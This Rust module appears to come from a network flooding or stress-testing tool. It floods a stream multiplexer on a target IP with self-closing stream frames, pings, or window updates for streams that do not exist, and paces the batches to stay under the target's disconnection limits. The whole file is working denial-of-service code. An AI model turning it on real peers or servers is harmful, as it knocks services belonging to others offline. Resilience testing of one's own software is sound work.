//! Floods of the multiplexer's own frames, which no protocol above it sees: empty streams, pings, and windows of streams that nobody has.

use std::net::IpAddr;
use std::sync::atomic::{AtomicU64, Ordering};

use futures::AsyncWriteExt as _;
use tokio::sync::Notify;

use super::{Flood, Flooded};
use crate::key::Key;
use crate::line::{ACK, FIN, Kind, Line, Reader, SYN, frame};
use crate::world::World;

/// Streams that are open at once: below what ends a connection.
const OPEN_MAX: u64 = 96;
/// Pings whose answers are awaited, so that the target always has some to answer.
const PINGS_MAX: u64 = 1_024;
/// Frames that are written at once.
const AT_ONCE: u64 = 32;

/// What the target has answered.
#[derive(Default)]
struct Answered {
    frames: AtomicU64,
    news: Notify,
}

/// One key's flood from `ip`, until it is let go. Every stream is opened and ended by one frame.
pub(super) async fn flood(world: &World, key: &Key, ip: IpAddr, flood: Flood, done: &mut Flooded) {
    let Ok(Line { frames_in, mut frames_out }) = Line::dial(key, ip, world.socket()).await else {
        done.refused += 1;
        return;
    };
    let answered = Answered::default();
    let writing = async {
        for round in 0.. {
            let first = round * AT_ONCE;
            let ahead = match flood {
                Flood::Streams => OPEN_MAX,
                Flood::Echoes => PINGS_MAX,
                _ => u64::MAX,
            };
            while first + AT_ONCE > answered.frames.load(Ordering::Relaxed).saturating_add(ahead) {
                answered.news.notified().await;
            }
            let bytes: Vec<u8> = (first..first + AT_ONCE).flat_map(|number| one(flood, number)).collect();
            if frames_out.write_all(&bytes).await.is_err() || frames_out.flush().await.is_err() {
                return;
            }
            done.sent += AT_ONCE;
            done.bytes += bytes.len() as u64;
        }
    };
    // Whichever ends first: the target lets go of both.
    tokio::select! {
        () = writing => {}
        () = listen(frames_in, flood, &answered) => {}
    }
    done.let_go += 1;
}

fn one(flood: Flood, number: u64) -> [u8; 12] {
    // Odd, and none twice within a key's flood.
    let stream = u32::try_from(2 * number + 1).unwrap_or(u32::MAX);
    match flood {
        Flood::Streams => frame(Kind::Window, SYN | FIN, stream, 0),
        Flood::Echoes => frame(Kind::Ping, SYN, 0, stream),
        _ => frame(Kind::Window, 0, stream, 0),
    }
}

/// Counts what the target ends and answers, until the connection ends.
async fn listen(mut frames: Reader, flood: Flood, answered: &Answered) {
    while let Ok(frame) = frames.next().await {
        let is_answer = match flood {
            Flood::Streams => frame.flags & FIN != 0 && frame.stream % 2 == 1,
            _ => frame.kind == Kind::Ping as u8 && frame.flags & ACK != 0,
        };
        if is_answer {
            answered.frames.fetch_add(1, Ordering::Relaxed);
            answered.news.notify_one();
        }
    }
}
